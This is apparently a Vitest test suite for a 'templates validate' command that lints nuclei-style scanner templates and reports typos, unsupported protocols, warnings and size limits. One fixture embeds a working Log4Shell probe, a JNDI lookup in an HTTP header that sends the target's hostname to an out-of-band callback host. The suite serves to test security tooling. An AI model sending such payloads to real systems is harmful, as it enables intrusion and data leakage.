import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { memoryIo } from '../../io.js';
import { run } from '../../program.js';

const BROKEN = `id: bad id
info:
  name: Broken
  author: me
  severity: hihg
http:
  - path: ["{{BaseURL}}"]
    atack: pitchfork
`;

/** The folders a test made, removed after it. */
const folders: string[] = [];
afterEach(() => {
  for (const dir of folders.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function scratchFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), 'keyhole-templates-'));
  folders.push(dir);
  return dir;
}

function fixtures(): string {
  const dir = scratchFolder();
  writeFileSync(join(dir, 'broken.yaml'), BROKEN);
  writeFileSync(
    join(dir, 'dns.yml'),
    'id: dns-check\ninfo:\n  name: D\n  author: me\ndns:\n  - name: "{{FQDN}}"\n',
  );
  writeFileSync(join(dir, 'notes.txt'), 'not a template');
  return dir;
}

describe('keyhole templates validate', () => {
  it('reports every corpus template OK and exits 0', async () => {
    const io = memoryIo();
    const code = await run(['templates', 'validate', 'test/corpus'], io);
    expect(io.out()).toMatch(/^32 templates: 32 OK, 0 with errors, 0 unsupported$/m);
    expect(io.out()).toContain('OK test/corpus/http/default-logins/apache/tomcat-default-login.yaml');
    expect(io.out()).toContain('OK test/corpus/http/cves/2023/CVE-2023-6970.yaml');
    expect(io.out()).toContain('OK test/corpus/http/cves/2024/CVE-2024-45309.yaml');
    expect(code).toBe(0);
  });

  it('prints errors with file:line:col, unsupported features by name, a summary, and exits 1', async () => {
    const dir = fixtures();
    const io = memoryIo();
    const code = await run(['templates', 'validate', dir], io);
    const out = io.out();
    expect(out).toContain(`error: ${join(dir, 'broken.yaml')}`);
    expect(out).toContain(`${join(dir, 'broken.yaml')}:1:5: id: "bad id" is not a valid template id`);
    expect(out).toContain(
      `${join(dir, 'broken.yaml')}:5:13: info.severity: unknown severity "hihg" (did you mean "high"?)`,
    );
    expect(out).toContain(
      `${join(dir, 'broken.yaml')}:8:5: http[0].atack: unknown key "atack" (did you mean "attack"?)`,
    );
    expect(out).toContain(`unsupported: ${join(dir, 'dns.yml')}: dns protocol (5:1)`);
    expect(out).not.toContain('notes.txt');
    expect(out).toMatch(/^2 templates: 0 OK, 1 with errors, 1 unsupported$/m);
    expect(code).toBe(1);
  });

  it('warns where wappalyzer() is called without its fingerprints configured, and takes cookie_unsign', async () => {
    const dir = scratchFolder();
    const helperTemplate = (id: string, dsl: string) =>
      [
        `id: ${id}`,
        'info:',
        `  name: ${id}`,
        '  author: me',
        'http:',
        '  - path: ["{{BaseURL}}"]',
        '    matchers:',
        '      - type: dsl',
        '        dsl:',
        `          - ${dsl}`,
        '',
      ].join('\n');
    writeFileSync(
      join(dir, 'tech.yaml'),
      helperTemplate('tech', 'contains(wappalyzer(header, body), "Nginx")'),
    );
    writeFileSync(join(dir, 'cookie.yaml'), helperTemplate('cookie', 'cookie_unsign(body) != ""'));
    const io = memoryIo();
    expect(await run(['templates', 'validate', dir], io)).toBe(0);
    expect(io.out()).toContain(`OK ${join(dir, 'tech.yaml')}`);
    expect(io.out()).toContain(
      `${join(dir, 'tech.yaml')}:10:22: warning: calls wappalyzer(), which fails until it is configured (what needs its value is skipped): set KEYHOLE_WAPPALYZER_FINGERPRINTS to the path of a fingerprints_data.json`,
    );
    expect(io.out()).toMatch(/^2 templates: 2 OK, 0 with errors, 0 unsupported, 1 warning$/m);
    expect(io.out()).toContain(`OK ${join(dir, 'cookie.yaml')}`);

    const configured = memoryIo({ env: { KEYHOLE_WAPPALYZER_FINGERPRINTS: '/any/fingerprints_data.json' } });
    expect(await run(['templates', 'validate', dir], configured)).toBe(0);
    expect(configured.out()).not.toContain('warning');
  });

  it('points at a misspelt helper function and a bad regex by line and column', async () => {
    const dir = scratchFolder();
    const file = join(dir, 'typo.yaml');
    writeFileSync(
      file,
      [
        'id: typo',
        'info:',
        '  name: Typo',
        '  author: me',
        'http:',
        '  - raw:',
        '      - |',
        '        GET /admin HTTP/1.1',
        '        Host: {{Hostname}}',
        '        Authorization: Basic {{base46(username)}}',
        '    matchers:',
        '      - type: dsl',
        '        dsl:',
        '          - status_code == 200 && contians(body, "admin")',
        '      - type: regex',
        '        regex: ["(?<=v)[0-9]+"]',
        '',
      ].join('\n'),
    );
    const io = memoryIo();
    expect(await run(['templates', 'validate', file], io)).toBe(1);
    const out = io.out();
    expect(out).toContain(
      `${file}:10:32: http[0].raw[0]: unknown function "base46" (did you mean "base64"?)`,
    );
    expect(out).toContain(
      `${file}:14:35: http[0].matchers[0].dsl[0]: unknown function "contians" (did you mean "contains"?)`,
    );
    expect(out).toMatch(
      new RegExp(
        `${file.replaceAll('.', '\\.')}:16:17: http\\[0\\]\\.matchers\\[1\\]\\.regex\\[0\\]: .*Go RE2`,
      ),
    );
    expect(out).toMatch(/^1 template: 0 OK, 1 with errors, 0 unsupported$/m);
  });

  it('exits 0 when templates are only unsupported', async () => {
    const dir = fixtures();
    const io = memoryIo();
    expect(await run(['templates', 'validate', join(dir, 'dns.yml')], io)).toBe(0);
  });

  it('reports an out-of-band template (interactsh-url in a raw request, interactsh matchers) OK', async () => {
    const dir = scratchFolder();
    writeFileSync(
      join(dir, 'log4j.yaml'),
      `id: log4j-header-oast
info:
  name: Log4j lookup in a header
  author: me
  severity: critical
http:
  - raw:
      - |
        GET / HTTP/1.1
        Host: {{Hostname}}
        X-Api-Version: \${jndi:ldap://\${hostName}.{{interactsh-url}}/a}
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words: [dns]
      - type: regex
        part: interactsh_request
        regex: ['([a-z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
    extractors:
      - type: kval
        part: interactsh_ip
        kval: [interactsh_ip]
`,
    );
    const io = memoryIo();
    expect(await run(['templates', 'validate', dir], io)).toBe(0);
    expect(io.out()).toMatch(/^1 template: 1 OK, 0 with errors, 0 unsupported$/m);
  });

  it('reports a path that does not exist as an error', async () => {
    const io = memoryIo();
    expect(await run(['templates', 'validate', 'no/such/dir'], io)).toBe(1);
    expect(io.out()).toContain('no/such/dir:1:1: no such file or folder');
  });

  it('refuses a template file over 4 MiB from its size, before parsing it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'keyhole-templates-'));
    try {
      const big = join(dir, 'big.yaml');
      writeFileSync(big, 'id: big\n');
      truncateSync(big, 50 << 20);
      const io = memoryIo();
      expect(await run(['templates', 'validate', big], io)).toBe(1);
      expect(io.out()).toContain(
        `${big}:1:1: it is 50 MiB, over the limit of 4 MiB (the largest nuclei templates are a few hundred KiB)`,
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('shows the control characters of a template file name as escapes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'keyhole-templates-'));
    try {
      writeFileSync(join(dir, 'x\x1b[2J\u202e.yaml'), 'id: x\n');
      const io = memoryIo();
      await run(['templates', 'validate', dir], io);
      expect(io.out()).toContain(`error: ${dir}/x\\x1b[2J\\u202e.yaml\n`);
      expect(io.out()).not.toMatch(/[\x1b\u202e]/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('prints a JSON report with --json', async () => {
    const dir = fixtures();
    const io = memoryIo();
    await run(['templates', 'validate', '--json', dir, 'test/corpus/http/default-logins/grafana'], io);
    const report = JSON.parse(io.out());
    expect(report.summary).toEqual({ total: 3, ok: 1, error: 1, unsupported: 1, warnings: 0 });
    const grafana = report.templates.find((t: { status: string }) => t.status === 'ok');
    expect(grafana).toMatchObject({ id: 'grafana-default-login', requests: 2 });
    const broken = report.templates.find((t: { status: string }) => t.status === 'error');
    expect(broken.diagnostics[0]).toMatchObject({ line: 1, col: 5, path: 'id', severity: 'error' });
  });

  it('shows examples in --help', async () => {
    const io = memoryIo();
    expect(await run(['templates', 'validate', '--help'], io)).toBe(0);
    expect(io.out()).toContain('Examples:');
  });

  it('sets the process exit code when run as a program', async () => {
    const dir = fixtures();
    const exec = promisify(execFile);
    const good = await exec(process.execPath, ['dist/cli/main.js', 'templates', 'validate', 'test/corpus']);
    expect(good.stdout).toMatch(/32 OK/);
    const bad = await exec(process.execPath, ['dist/cli/main.js', 'templates', 'validate', dir]).catch(
      (e) => e,
    );
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/broken\.yaml:1:5:/);
  });
});

describe('keyhole templates validate on a part of a nuclei-templates checkout', () => {
  it('finds the helpers/ payload files of WordPress plugin templates at the top of the checkout', async () => {
    const top = scratchFolder();
    const plugins = join(top, 'http', 'technologies', 'wordpress', 'plugins');
    mkdirSync(plugins, { recursive: true });
    mkdirSync(join(top, 'helpers', 'wordpress', 'plugins'), { recursive: true });
    writeFileSync(join(top, 'helpers', 'wordpress', 'plugins', 'akismet.txt'), '5.3\n');
    writeFileSync(
      join(plugins, 'akismet.yaml'),
      `id: wordpress-akismet
info: {name: Akismet detection, author: me, severity: info}
http:
  - method: GET
    path: ["{{BaseURL}}/wp-content/plugins/akismet/readme.txt"]
    payloads:
      last_version: helpers/wordpress/plugins/akismet.txt
    extractors:
      - type: regex
        regex: ["Stable tag: ([0-9.]+)"]
    matchers:
      - type: dsl
        dsl: ["compare_versions(version, concat('< ', last_version))"]
`,
    );
    const io = memoryIo();
    const code = await run(['templates', 'validate', join(top, 'http')], io);
    expect(io.out()).toMatch(/^1 templates?: 1 OK, 0 with errors, 0 unsupported$/m);
    expect(code).toBe(0);
  });
});

describe('keyhole templates validate on a template that reads a variable nothing sets', () => {
  it('warns of it with file:line:col, and exits 0', async () => {
    const dir = scratchFolder();
    writeFileSync(
      join(dir, 'login.yaml'),
      `id: needs-password
info: {name: Login, author: me, severity: info}
variables:
  user: admin
http:
  - method: POST
    path:
      - "{{BaseURL}}/login"
    body: "user={{user}}&password={{password}}"
    matchers:
      - type: word
        words: [welcome]
`,
    );
    const io = memoryIo();
    const code = await run(['templates', 'validate', dir], io);
    expect(io.out()).toContain(
      `${join(dir, 'login.yaml')}:9:11: warning: reads {{password}}, which nothing in the template sets; the requests that read it are skipped unless the scan gives -var password=…`,
    );
    expect(io.out()).not.toContain('{{user}}');
    expect(code).toBe(0);
  });
});
